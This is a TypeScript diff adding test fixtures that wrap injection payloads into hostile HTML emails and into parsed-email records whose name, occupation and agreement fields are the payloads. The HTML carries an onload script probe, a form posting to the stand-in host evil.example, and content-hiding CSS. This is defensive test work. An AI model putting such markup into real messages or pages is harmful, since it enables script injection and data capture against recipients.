@@ -1,3 +1,4 @@
+import type { SaidEmail } from '../../support/command-line.ts';
 import { email } from '../../support/mail-builder.ts';
 import { payloads } from './payloads.ts';
 
@@ -32,6 +33,30 @@ export function carriers(): HostileEmail[] {
       source: email({ from: `"${oneLine}" <${address}>`, subject: payload, text, headers, messageId }),
     };
   });
+}
+
+/** Applications in HTML: the markup is the payload. */
+export function pagesAsEmails(): HostileEmail[] {
+  const headers = { 'Content-Type': 'text/html; charset=utf-8' };
+  return Object.entries(payloads).map(([name, payload]) => {
+    const from = `html.${name.toLowerCase()}@example.org`;
+    const text = `<html><body onload=alert(1)><p>I want to join. My name is ${payload}.</p>
+<form action=https://evil.example><input name=x></form><style>*{display:none}</style>${payload}</body></html>`;
+    return { name: `${name} in HTML`, source: email({ from, text, headers }) };
+  });
+}
+
+/** Emails whose facts are payloads, as a reader would find them that takes everything for true. */
+export function saidByPayloads(): SaidEmail[] {
+  return Object.entries(payloads).map(([name, payload]) => ({
+    from: `said.${name.toLowerCase()}@example.org`,
+    subject: payload.replace(/[\r\n\0]+/g, ' '),
+    text: `I am ${payload}, I live in Tulsa and I work as ${payload}. I agree: ${payload}`,
+    name: payload,
+    occupation: payload,
+    agrees: payload,
+    livesInTulsa: true,
+  }));
 }
 
 const join = 'Hello, I want to join. My name is Ada Flores.';
